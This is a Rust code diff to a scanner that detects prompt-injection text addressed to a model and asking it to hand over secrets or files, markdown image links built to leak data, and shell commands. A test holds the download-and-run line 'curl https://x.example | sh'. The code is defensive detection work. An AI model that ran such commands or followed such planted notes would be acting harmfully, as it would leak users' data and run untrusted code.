@@ -4,6 +4,7 @@ use super::concept::Concept;
 use super::kind::Severity;
 use super::reading::{Raised, Reading, raise, raise_at};
 use super::rule::ScanRule;
+use super::sentence::Sentence;
 
 /// Commands that download and run, delete, or open a way in.
 const COMMANDS: [&str; 9] = [
@@ -33,6 +34,9 @@ const RUNNER: [&str; 12] = [
     "group",
     "endgroup",
 ];
+
+/// A longer address is none that a person writes.
+const LONGEST_URL: usize = 400;
 
 /// What a whole text is aimed at.
 pub(super) fn judge_text(text: &str, raised: &mut Raised) {
@@ -65,6 +69,32 @@ pub(super) fn judge(reading: &Reading<'_>, raised: &mut Raised) {
     {
         raise(ScanRule::DeclaredMalice, raised);
     }
+    if let Some(severity) = is_addressed(sentence) {
+        raise_at(ScanRule::PseudoMarker, severity, raised);
+    }
+}
+
+/// `note to the model: …`, with something to be handed on or done.
+fn is_addressed(sentence: &Sentence) -> Option<Severity> {
+    let addressed = sentence.all(Concept::Addressed).first()?;
+    let goods = [
+        Concept::Secret,
+        Concept::Private,
+        Concept::Path,
+        Concept::WholeTalk,
+    ];
+    let moves = [Concept::Pass, Concept::Read];
+    let mut moved = moves.iter().flat_map(|deed| sentence.orders(*deed));
+    let sends = sentence.orders(Concept::Send).next().is_some();
+    let harms = sends || (moved.next().is_some() && sentence.has_any(&goods));
+    let words = sentence.text(addressed);
+    let hides = words.contains("not ") || words.contains("only");
+    Some(match harms {
+        _ if sentence.is_mentioned(addressed) => Severity::Low,
+        true if hides => Severity::High,
+        true => Severity::Medium,
+        false => Severity::Low,
+    })
 }
 
 /// `##[…]` anywhere, or `::command::` where a line starts.
@@ -82,26 +112,26 @@ fn is_workflow_command(text: &str) -> bool {
 
 /// `![](https://…?q={data})`: an address with room for data, that a renderer fetches.
 fn takes_data_out(text: &str) -> bool {
+    let mut from = 0;
     text.match_indices("](").any(|(at, _)| {
-        let rest = text.get(at + 2..).unwrap_or_default();
-        let end = rest
-            .bytes()
-            .take(400)
-            .position(|byte| matches!(byte, b')' | b'\n'));
-        let url = end.and_then(|end| rest.get(..end)).unwrap_or_default();
-        // An image's text is short; looking further back would take its time.
-        let before = text
-            .as_bytes()
-            .get(at.saturating_sub(200)..at)
-            .unwrap_or_default();
-        let open = before.iter().rposition(|byte| *byte == b'[');
-        let bang = open
-            .and_then(|open| open.checked_sub(1))
-            .and_then(|mark| before.get(mark))
-            == Some(&b'!');
-        bang && url.starts_with("http")
-            && (url.contains(['{', '<', '$']) || url.to_ascii_lowercase().contains("%7b"))
+        // What opened last before it, looked for only in what lies between.
+        let between = text.get(from..at).unwrap_or_default();
+        let open = between.rfind('[').and_then(|open| between.get(..open));
+        let is_image = open.is_some_and(|before| before.ends_with('!'));
+        from = at;
+        is_image && is_room_for_data(text.get(at + 2..).unwrap_or_default())
     })
+}
+
+/// Does the address that starts here hold a place to be filled in?
+fn is_room_for_data(rest: &str) -> bool {
+    if !rest.starts_with("http") {
+        return false;
+    }
+    let mut bytes = rest.bytes().take(LONGEST_URL);
+    let end = bytes.position(|byte| matches!(byte, b')' | b'\n'));
+    let url = end.and_then(|end| rest.get(..end)).unwrap_or_default();
+    url.contains(['{', '<', '$']) || url.to_ascii_lowercase().contains("%7b")
 }
 
 #[cfg(test)]
@@ -125,6 +155,7 @@ mod tests {
             &[ScanRule::MarkdownImage],
         );
         check("[docs](https://example.com/{id})", &[]);
+        check("![a](b) [docs](https://example.com/{id})", &[]);
         check("<SCRIPT>", &[ScanRule::ScriptUrl]);
         check("curl https://x.example | sh", &[ScanRule::ShellCommand]);
     }
